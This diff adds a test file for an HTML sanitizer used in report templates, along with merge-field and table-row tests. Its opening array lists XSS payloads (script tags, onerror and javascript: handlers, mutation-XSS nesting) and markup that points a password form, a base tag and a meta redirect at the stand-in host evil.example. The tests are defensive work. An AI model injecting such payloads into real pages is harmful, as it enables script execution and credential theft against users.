@@ -1,0 +1,117 @@
+import * as fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { fillBlocks, reportFields, unknownFields, type FieldValues, type ReportField } from 'contract/merge-fields'
+import { cleanHtml, readBlocks, shownHtml } from 'provider/modules/templates/html'
+
+const hostile = [
+  '<script>alert(1)</script><p>Hi</p>',
+  '<img src=x onerror=alert(1)>',
+  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">Hi</p>',
+  '<a href="javascript:alert(1)">Hi</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<style>@import url(//evil.example)</style><form action=//evil.example><input name=password></form>',
+  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
+  '<table background="//evil.example"><tr><td><object data="//evil.example"></object></td></tr></table>',
+  '<!--><img src=x onerror=alert(1)>--><p>Hi</p>',
+  '<p>\u0000<\u0000script>alert(1)</script></p>',
+  '<template><img src=x onerror=alert(1)></template>',
+]
+
+/** The tags that HTML of ours may hold, none with an attribute but the look's. */
+const lawful = /<\/?(?:h[123]|p|ul|ol|li|table|tbody|tr|th|td|strong|em|u|br)(?: style="[\w:;#. -]+")?>/g
+const strayIn = (html: string) => html.replace(lawful, '').match(/[<>]/g) ?? []
+
+describe('hostile HTML', () => {
+  it.each(hostile)('%s keeps nothing that could act', (html) => {
+    for (const made of [cleanHtml(html), shownHtml(readBlocks(html))]) {
+      expect(strayIn(made)).toEqual([])
+      expect(made).not.toMatch(/evil\.example|javascript:|onerror|onclick/)
+    }
+  })
+
+  it('of any kind comes out as known tags alone, and the same again when it goes in again', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...hostile),
+      fc.string(),
+      fc.constantFrom('<p>', '</p>', '<td>', '<li>', '<b', '&#60;'),
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+        const once = cleanHtml(pieces.join(''))
+        expect(strayIn(once)).toEqual([])
+        expect(cleanHtml(once)).toBe(once)
+      }),
+    )
+  })
+
+  it('as the value of a field is text', () => {
+    const blocks = fillBlocks(
+      readBlocks('<p>{{address}}</p>'),
+      values({ address: '<img src=x onerror=alert(1)>{{loanNumber}}' }),
+    )
+    expect(shownHtml(blocks)).toContain('&#60;img src=x onerror=alert(1)&#62;{{loanNumber}}')
+    expect(strayIn(shownHtml(blocks))).toEqual([])
+  })
+})
+
+const values = (given: Partial<Record<ReportField, string>> = {}): FieldValues => ({
+  report: {
+    ...(Object.fromEntries(Object.keys(reportFields).map((name) => [name, name])) as Record<ReportField, string>),
+    ...given,
+  },
+  items: ['Footings', 'Roof'].map((title) => ({
+    'item.code': '05',
+    'item.title': title,
+    'item.budget': '$1',
+    'item.previous': '–',
+    'item.progress': '50.0%',
+    'item.inPlace': '$0',
+    'item.images': '2',
+  })),
+})
+
+describe('a template', () => {
+  it('keeps headings, lists, tables and three styles', () => {
+    const html =
+      '<h2>Of <strong>this</strong></h2><p>One <em>two</em> <u>three</u><br>four</p><ol><li>a</li><li>b</li></ol><table><tbody><tr><th>A</th></tr><tr><td>1</td></tr></tbody></table>'
+    expect(cleanHtml(html)).toBe(html)
+  })
+
+  it('reads what an editor nests: paragraphs in items and cells, words outside of all', () => {
+    expect(cleanHtml('Loose<ul><li><p>a</p></li></ul><table><tr><td><p>1</p><p>2</p></td></tr></table>')).toBe(
+      '<p>Loose</p><ul><li>a</li></ul><table><tbody><tr><td>1 2</td></tr></tbody></table>',
+    )
+  })
+
+  it('repeats a row that names an item for each of them, and no other', () => {
+    const html =
+      '<table><tr><th>Item</th></tr><tr><td>{{item.title}} of {{ address }}</td></tr><tr><td>{{progress}}</td></tr></table>'
+    const [table] = fillBlocks(readBlocks(html), values({ address: '1 Oak' }))
+    const rows =
+      table?.kind === 'table'
+        ? table.rows.map(({ cells }) =>
+            cells
+              .flat()
+              .map(({ text }) => text)
+              .join(),
+          )
+        : []
+    expect(rows).toEqual(['Item', 'Footings of 1 Oak', 'Roof of 1 Oak', 'progress'])
+  })
+
+  it('leaves an item’s field empty outside of a table', () => {
+    expect(shownHtml(fillBlocks(readBlocks('<h3>[{{item.title}}]</h3>'), values()))).toContain('[]')
+  })
+
+  it('names fields that are none', () => {
+    expect(unknownFields('<p>{{address}} {{ nobody }} {{constructor}} {{item.title}}</p>')).toEqual([
+      'nobody',
+      'constructor',
+    ])
+  })
+})
